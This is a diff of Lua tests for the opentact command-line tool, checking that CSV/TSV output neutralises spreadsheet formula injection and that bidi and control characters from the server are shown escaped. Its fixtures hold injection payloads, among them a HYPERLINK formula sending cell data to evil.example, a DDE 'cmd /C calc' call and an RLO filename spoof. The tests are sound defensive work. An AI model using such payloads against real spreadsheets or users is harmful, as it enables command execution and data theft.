@@ -5,10 +5,44 @@
 -- and output that could not be written is an error (a reader that closes
 -- the pipe early ends the command quietly).
 local support = require("emulator")
+local cjson = require("cjson")
 local opentact = require("opentact")
 
 local ROOT = support.ROOT
 local slurp = support.slurp
+
+local function lines_of(text)
+  local out = {}
+  for l in text:gmatch("([^\n]*)\n") do out[#out + 1] = l end
+  return out
+end
+
+-- A CSV line's fields (quotes, doubled quotes; no line breaks in fields here).
+local function csv(line)
+  local out, i = {}, 1
+  while i <= #line + 1 do
+    if line:sub(i, i) == '"' then
+      local j, parts = i + 1, {}
+      while true do
+        local q = line:find('"', j, true)
+        parts[#parts + 1] = line:sub(j, q - 1)
+        if line:sub(q + 1, q + 1) == '"' then j = q + 2 parts[#parts + 1] = '"' else i = q + 2 break end
+      end
+      out[#out + 1] = table.concat(parts)
+    else
+      local comma = line:find(",", i, true) or #line + 1
+      out[#out + 1] = line:sub(i, comma - 1)
+      i = comma + 1
+    end
+  end
+  return out
+end
+
+local function tsv(line)
+  local out = {}
+  for f in (line .. "\t"):gmatch("([^\t]*)\t") do out[#out + 1] = f end
+  return out
+end
 
 -- bin/opentact with `args` (shell words), standard output sent where
 -- `to` says: captured (nil), "> FILE", or "| COMMAND" (a reader; then
@@ -36,6 +70,10 @@ local function opentact_cmd(emu, args, to, signal)
   return out, stderr, status
 end
 
+-- U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+200F
+-- RIGHT-TO-LEFT MARK and U+0085 NEXT LINE (a C1 control), as UTF-8.
+local RLO, LRI, RLM, NEL = "\226\128\174", "\226\129\166", "\226\128\143", "\194\133"
+
 describe("the opentact command's output #wire", function()
   local emu, conns, leases
 
@@ -55,6 +93,111 @@ describe("the opentact command's output #wire", function()
       raw = '{"success":true,"payload":' .. payload .. "}" } })
     assert.equals(200, status)
   end
+
+  -- Leases whose text fields hold what a spreadsheet runs: a formula, DDE,
+  -- an @ function; -5 is a JSON number.
+  local HOSTILE = {
+    { expired_on = '=HYPERLINK("http://evil.example/?x="&A1,"renew")',
+      sip_connection = { uuid = "=cmd|' /C calc'!A0" }, sip_control_app = { uuid = "@SUM(1)" }, tn = -5 },
+    { expired_on = "+1+1", sip_connection = { uuid = "-2+3" }, sip_control_app = { uuid = "\t=1+1" }, tn = 12125550001 },
+    { expired_on = "\r=1+1", sip_connection = { uuid = "1=1" }, sip_control_app = { uuid = "a@b" }, tn = 12125550002 },
+  }
+  local function hostile_payload()
+    local out = {}
+    for i, l in ipairs(HOSTILE) do
+      out[i] = cjson.encode({ uuid = leases[i], expired_on = l.expired_on, autorenew = true,
+        tn = { tn = l.tn }, sip_connection = l.sip_connection, sip_control_app = l.sip_control_app })
+    end
+    return "[" .. table.concat(out, ",") .. "]"
+  end
+
+  describe("csv and tsv", function()
+    it("begin a text cell that starts with =, +, -, @, tab or CR with ', numbers stay numbers", function()
+      for _, f in ipairs({ { "csv", csv, "\t", "\r" }, { "tsv", tsv, "\\t", "\\r" } }) do
+        answer(hostile_payload())
+        local out, err, status = run("list " .. conns[1] .. " --format " .. f[1])
+        assert.equals(0, status, err)
+        local rows = lines_of(out)
+        assert.equals(4, #rows, out)
+        assert.same({ "uuid", "number", "expires", "autorenew", "sip_connection", "sip_control_app" }, f[2](rows[1]))
+        assert.same({ leases[1], "-5", "'" .. HOSTILE[1].expired_on, "true", "'=cmd|' /C calc'!A0", "'@SUM(1)" },
+          f[2](rows[2]))
+        assert.same({ leases[2], "12125550001", "'+1+1", "true", "'-2+3", "'" .. f[3] .. "=1+1" }, f[2](rows[3]))
+        -- only the first character counts
+        assert.same({ leases[3], "12125550002", "'" .. f[4] .. "=1+1", "true", "1=1", "a@b" }, f[2](rows[4]))
+      end
+    end)
+
+    it("begin an error message cell from the server with ' too", function()
+      -- the add is refused with the server's message; the remove is applied
+      emu:faults({ { status = 400, message = "=HYPERLINK(\"http://evil.example\",\"retry\")" } })
+      local out, err, status = run(("assign %s --add %s --batch-size 1 --format csv"):format(
+        conns[2], leases[20]))
+      assert.equals(1, status, err)
+      local rows = lines_of(out)
+      assert.equals(2, #rows, out)
+      local row = csv(rows[2])
+      assert.same({ leases[20], "add", "failed", "rejected", "400" }, { row[1], row[3], row[4], row[5], row[6] })
+      assert.equals("'=HYPERLINK(\"http://evil.example\",\"retry\")", row[7])
+
+      emu:faults({ { status = 400, message = "@SUM(1)\t-1" } })
+      out, err, status = run(("assign %s --add %s --batch-size 1 --format tsv"):format(conns[2], leases[20]))
+      assert.equals(1, status, err)
+      assert.equals("'@SUM(1)\\t-1", tsv(lines_of(out)[2])[7])
+    end)
+  end)
+
+  describe("server text", function()
+    local TEXT = "ok" .. RLO .. "fdp.exe" .. LRI .. "x" .. RLM .. NEL .. "\27[31mred"
+    local SHOWN = "ok\\u{202E}fdp.exe\\u{2066}x\\u{200F}\\u{0085}\\027[31mred"
+
+    local function raw_in(s)
+      for _, c in ipairs({ RLO, LRI, RLM, NEL, "\27" }) do
+        if s:find(c, 1, true) then return c end
+      end
+      return nil
+    end
+
+    it("is shown escaped in tables, never as raw bidi or control characters", function()
+      answer(cjson.encode({ { uuid = leases[1], expired_on = TEXT, tn = { tn = 12125550001 }, autorenew = false } }))
+      local out, err, status = run("list " .. conns[1])
+      assert.equals(0, status, err)
+      assert.is_nil(raw_in(out))
+      assert.matches(SHOWN, out, 1, true)
+
+      -- find's table, and a lease of a number
+      answer(cjson.encode({ uuid = leases[2], tn = { tn = 12125550002 }, sip_connection = { uuid = TEXT } }))
+      out, err, status = run("find 12125550002")
+      assert.equals(0, status, err)
+      assert.is_nil(raw_in(out))
+      assert.matches("connection " .. SHOWN, out, 1, true)
+    end)
+
+    it("is shown escaped in csv and tsv; json keeps it, as \\u escapes", function()
+      for _, f in ipairs({ "csv", "tsv", "json", "jsonl" }) do
+        answer(cjson.encode({ { uuid = leases[1], expired_on = TEXT, tn = { tn = 12125550001 } } }))
+        local out, err, status = run("list " .. conns[1] .. " --format " .. f)
+        assert.equals(0, status, err)
+        assert.is_nil(raw_in(out), f)
+        if f == "json" then
+          assert.equals(TEXT, cjson.decode(out)[1].expired_on)
+        elseif f == "jsonl" then
+          assert.equals(TEXT, cjson.decode(out).expired_on)
+        else
+          assert.matches(SHOWN, out, 1, true)
+        end
+      end
+    end)
+
+    it("in an error message is shown escaped on standard error", function()
+      emu:faults({ { status = 404, message = "not " .. RLO .. "found" .. NEL } })
+      local out, err, status = run("list " .. conns[1])
+      assert.equals(1, status)
+      assert.equals("", out)
+      assert.is_nil(raw_in(err))
+      assert.matches("not \\u{202E}found\\u{0085}", err, 1, true)
+    end)
+  end)
 
   describe("--format json", function()
     -- keys sorted, no spaces: the form the command writes
